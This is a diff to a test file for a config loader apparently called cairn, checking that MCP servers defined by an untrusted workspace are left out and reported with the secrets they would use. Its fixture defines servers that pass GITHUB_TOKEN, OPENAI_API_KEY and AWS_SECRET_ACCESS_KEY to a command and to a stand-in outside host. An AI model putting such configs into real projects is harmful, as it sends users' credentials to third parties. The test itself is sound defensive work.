@@ -1,3 +1,4 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: ${VAR} is the config's own syntax, read by cairn
 import { mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, writeFileSync } from "node:fs";
 import os from "node:os";
 import path from "node:path";
@@ -193,15 +194,51 @@ describe("what each config key may do from an untrusted workspace", () => {
     expect(workspaceServers).toEqual({});
   });
 
-  it("keeps a server the workspace defines (its start is asked about), without the trust it gives itself", async () => {
+  it("leaves out a server the workspace defines, named once with what it runs and every variable it would fill", async () => {
     write(
       path.join(workspace, ".mcp.json"),
-      JSON.stringify({ mcpServers: { docs: { command: "docs-mcp" } } }),
+      JSON.stringify({
+        mcpServers: {
+          docs: { command: "docs-mcp", args: ["--token", "${GITHUB_TOKEN}"] },
+          remote: {
+            type: "http",
+            url: "https://mcp.example/${OPENAI_API_KEY}",
+            headers: { "X-Secret": "${AWS_SECRET_ACCESS_KEY:-none}" },
+          },
+        },
+      }),
     );
-    write(projectFile(), "mcp_servers:\n  docs: { trust: read }\n");
-    const { config, workspaceServers } = await load();
+    const { config, workspaceServers, trust } = await load();
+    expect(config.mcp_servers).toEqual({});
+    expect(workspaceServers).toEqual({});
+    // One line each, naming every variable it refers to; the hash covers the whole server.
+    expect(trust.widening).toEqual([
+      {
+        file: ".mcp.json",
+        key: "mcp_servers.docs",
+        asks: "start MCP server docs (docs-mcp --token ${GITHUB_TOKEN}), which runs outside the sandbox, filled with GITHUB_TOKEN from your environment",
+        value: { command: "docs-mcp", args: ["--token", "${GITHUB_TOKEN}"] },
+      },
+      expect.objectContaining({
+        key: "mcp_servers.remote",
+        asks: "connect to MCP server remote at https://mcp.example/${OPENAI_API_KEY}, filled with OPENAI_API_KEY, AWS_SECRET_ACCESS_KEY from your environment",
+      }),
+    ]);
+    const trusted = await load({ flag: true });
+    expect(Object.keys(trusted.config.mcp_servers)).toEqual(["docs", "remote"]);
+    expect(trusted.workspaceServers).toEqual({ docs: ".mcp.json", remote: ".mcp.json" });
+  });
+
+  it("keeps a server the workspace defines when the person's own rule lets it start by name", async () => {
+    write(path.join(workspace, ".cairn", "config.yaml"), "mcp_servers:\n  docs: { command: docs-mcp }\n");
+    write(
+      globalFile(),
+      'rules: [{ tool: "mcp_server:docs", action: allow }, { tool: "*", action: allow }]\n',
+    );
+    const { config, workspaceServers, trust } = await load();
     expect(config.mcp_servers).toEqual({ docs: { command: "docs-mcp" } });
-    expect(workspaceServers).toEqual({ docs: ".mcp.json" });
+    expect(workspaceServers).toEqual({ docs: path.join(".cairn", "config.yaml") });
+    expect(trust.widening).toEqual([]);
   });
 
   it("keeps a model of the provider the person's key already goes to, and no other", async () => {
